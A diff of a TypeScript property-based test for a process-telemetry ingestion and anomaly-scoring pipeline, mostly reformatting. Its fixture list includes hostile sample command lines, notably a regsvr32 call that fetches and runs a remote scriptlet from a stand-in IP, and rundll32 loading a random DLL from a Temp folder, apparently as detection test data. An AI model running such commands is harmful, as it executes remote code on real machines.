@@ -1,17 +1,16 @@
 import fc from 'fast-check'
-import type pg from 'pg'
 import { afterAll, beforeAll, expect, test } from 'vitest'
-import type { ProcessCreation, Sensor } from '@/lib/pipeline/event/event'
 import { loadRecogniser } from '@/lib/operations/ingest/load-recogniser'
 import { ensureCatalogue } from '@/lib/operations/seed-catalogue'
+import type { ProcessCreation, Sensor } from '@/lib/pipeline/event/event'
 import { createUpload, openImportFile } from '@/lib/store/imports'
 import { writeBatch } from '@/lib/store/ingest/write-batch'
-import { createPool } from '@/lib/store/pool'
+import { createPool, type Pool } from '@/lib/store/pool'
 import { createTestDatabase, type TestDatabase } from '@/lib/store/test-database'
 import { queueRebuild, recompute } from './recompute'
 
 let database: TestDatabase
-let pool: pg.Pool
+let pool: Pool
 
 beforeAll(async () => {
   database = await createTestDatabase()
@@ -24,10 +23,17 @@ afterAll(async () => {
 })
 
 const HOSTS = ['ws-1.corp.example', 'ws-2.corp.example', 'srv-1.corp.example']
-const PARENTS = ['C:\\Windows\\explorer.exe', 'C:\\Windows\\System32\\svchost.exe', 'C:\\Program Files\\Microsoft Office\\WINWORD.EXE']
+const PARENTS = [
+  'C:\\Windows\\explorer.exe',
+  'C:\\Windows\\System32\\svchost.exe',
+  'C:\\Program Files\\Microsoft Office\\WINWORD.EXE',
+]
 const USES = [
   ['C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe shell32.dll,Control_RunDLL desk.cpl'],
-  ['C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\Users\\ada\\AppData\\Local\\Temp\\k2j4h6.dll,Start'],
+  [
+    'C:\\Windows\\System32\\rundll32.exe',
+    'rundll32.exe C:\\Users\\ada\\AppData\\Local\\Temp\\k2j4h6.dll,Start',
+  ],
   ['C:\\Windows\\System32\\regsvr32.exe', 'regsvr32 /s /u /i:http://203.0.113.9/a.sct scrobj.dll'],
   ['C:\\Windows\\System32\\msiexec.exe', 'msiexec /i C:\\Windows\\ccmcache\\a\\tool.msi /qn'],
   ['C:\\Windows\\System32\\notepad.exe', 'notepad.exe notes.txt'],
@@ -35,7 +41,15 @@ const USES = [
 const FIRST_DAY_US = Date.UTC(2026, 0, 5) * 1000
 const DAY_US = 86_400_000_000
 
-type Draw = { host: number; day: number; minute: number; use: number; parent: number; pid: number; sensors: Sensor[] }
+type Draw = {
+  host: number
+  day: number
+  minute: number
+  use: number
+  parent: number
+  pid: number
+  sensors: Sensor[]
+}
 
 const draw: fc.Arbitrary<Draw> = fc.record({
   host: fc.nat(HOSTS.length - 1),
@@ -84,7 +98,14 @@ function toCreation(drawn: Draw, sensor: Sensor): { event: ProcessCreation; host
 }
 
 async function ingest(creations: readonly { event: ProcessCreation; hostName: string }[]) {
-  const upload = { channel: 'api', name: 'test', sizeBytes: null, state: 'running', hostOverride: null, actorName: 'test' } as const
+  const upload = {
+    channel: 'api',
+    name: 'test',
+    sizeBytes: null,
+    state: 'running',
+    hostOverride: null,
+    actorName: 'test',
+  } as const
   const file = await openImportFile(pool, await createUpload(pool, upload), 'test', 'json')
   const recognise = await loadRecogniser(pool)
   return writeBatch(
@@ -107,7 +128,10 @@ async function derived(): Promise<unknown> {
   const host = (table: string, rest: string) =>
     pool.query(`SELECT h.name, ${rest} FROM ${table} t JOIN host h ON h.id = t.host_id ORDER BY 1, ${rest}`)
   const results = await Promise.all([
-    host('usage', 't.day, t.signature_id, t.principal_id, t.hours, t.first_at, t.last_at, t.executions, t.score_millibits, t.trusted, t.refused'),
+    host(
+      'usage',
+      't.day, t.signature_id, t.principal_id, t.hours, t.first_at, t.last_at, t.executions, t.score_millibits, t.trusted, t.refused',
+    ),
     host('host_value', 't.entry_id, t.feature, t.value_id, t.first_day'),
     host('pattern_day', 't.entry_id, t.value_id, t.day'),
     host('deviation_hit', 't.day, t.deviation_id, t.signature_id, t.score_millibits, t.reasons::text'),
@@ -172,8 +196,18 @@ test('a record that arrives twice is stored once, and one process that two senso
   await empty()
   const drawn: Draw = { host: 0, day: 1, minute: 5, use: 0, parent: 0, pid: 100, sensors: [] }
   const both = [toCreation(drawn, 'sysmon'), toCreation(drawn, 'security')]
-  expect(await ingest(both)).toEqual({ processes: 2, processesDuplicate: 0, executions: 1, executionsDuplicate: 1 })
-  expect(await ingest(both)).toEqual({ processes: 0, processesDuplicate: 2, executions: 0, executionsDuplicate: 2 })
+  expect(await ingest(both)).toEqual({
+    processes: 2,
+    processesDuplicate: 0,
+    executions: 1,
+    executionsDuplicate: 1,
+  })
+  expect(await ingest(both)).toEqual({
+    processes: 0,
+    processesDuplicate: 2,
+    executions: 0,
+    executionsDuplicate: 2,
+  })
   await recompute(pool)
   const { rows } = await pool.query('SELECT sum(executions)::int AS executions FROM usage')
   expect(rows).toEqual([{ executions: 1 }])
